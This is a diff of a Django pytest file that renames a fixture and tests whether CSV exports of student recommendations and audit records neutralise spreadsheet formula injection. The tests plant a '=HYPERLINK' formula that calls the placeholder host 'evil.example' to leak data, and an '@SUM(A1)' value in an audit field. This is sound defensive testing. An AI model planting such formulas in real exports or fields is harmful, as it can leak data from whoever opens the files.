@@ -16,25 +16,24 @@ from pathways.demo import data_protection_group_ensure
 from pathways.models import StudentRecommendation
 from pathways.students.audit import audit_record
 from programs.models import Institution, Program
-from tests.security.test_url_walk import world  # noqa: F401 - fixture
 
 pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("http://evil.example/?leak","点击")'
 
 
 @pytest.fixture
-def renamed(world: dict) -> Institution:  # noqa: F811
+def renamed(six_personas: dict) -> Institution:
     """The school of one of walk_wang's suggestions, renamed by a careless (or hostile) curator."""
-    first = StudentRecommendation.objects.get(student=world["users"]["owner"]).programs[0]["program"]
+    first = StudentRecommendation.objects.get(student=six_personas["users"]["owner"]).programs[0]["program"]
     school = Program.objects.get(pk=first).institution
     Institution.objects.filter(pk=school.pk).update(name=FORMULA)
     return school
 
 
-def test_the_counselors_class_csv_writes_a_formula_as_text(world: dict, renamed: Institution) -> None:  # noqa: F811
+def test_the_counselors_class_csv_writes_a_formula_as_text(six_personas: dict, renamed: Institution) -> None:
     client = Client()
-    client.force_login(world["users"]["counselor"])
-    response = client.get(f"/counsel/cohorts/{world['values']['cohort_id']}/?format=csv")
+    client.force_login(six_personas["users"]["counselor"])
+    response = client.get(f"/counsel/cohorts/{six_personas['values']['cohort_id']}/?format=csv")
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
     names = [row[1] for row in rows[1:]]
     assert "'" + FORMULA in names and FORMULA not in names
@@ -54,9 +53,9 @@ def test_the_admin_exports_write_formulas_as_text(renamed: Institution, curator_
     assert "重庆电子科技职业大学" in names  # ordinary names are untouched
 
 
-def test_the_audit_export_writes_a_computed_username_as_text(world: dict) -> None:  # noqa: F811
+def test_the_audit_export_writes_a_computed_username_as_text(six_personas: dict) -> None:
     student = User.objects.create_user("+1-1", password="pw")
-    audit_record(actor=world["users"]["counselor"], student=student, action="review_view", reason="@SUM(A1)")
+    audit_record(actor=six_personas["users"]["counselor"], student=student, action="review_view", reason="@SUM(A1)")
     officer = User.objects.create_user("dpo_he", password="pw", is_staff=True)
     officer.groups.add(data_protection_group_ensure())
     client = Client()
